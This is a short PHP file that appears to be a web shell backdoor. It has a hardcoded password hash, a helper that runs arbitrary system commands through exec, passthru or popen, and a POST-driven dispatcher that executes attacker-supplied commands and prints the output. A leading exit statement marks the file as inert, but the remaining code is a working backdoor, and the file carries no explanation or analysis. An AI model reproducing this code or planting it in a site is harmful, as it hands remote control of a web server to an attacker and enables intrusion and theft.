<?php exit; /* inert */ 
$auth = "21232f297a57a5a743894a0e4a801fc3"; session_start();
function ex($in){ $out=''; if(function_exists('exec')){ @exec($in,$out); $out=@join("\n",$out); } elseif(function_exists('passthru')){ ob_start(); @passthru($in); $out=ob_get_clean(); } elseif(is_resource($f=@popen($in,"r"))){ $out=""; while(!@feof($f)) $out.=fread($f,1024); pclose($f);} return $out; }
function actionConsole(){ if(!empty($_POST['p1'])) { echo htmlspecialchars("$ ".$_POST['p1']."\n".ex($_POST['p1'])); } }
if(!empty($_POST['a']) && function_exists('action'.$_POST['a'])) call_user_func('action'.$_POST['a']);
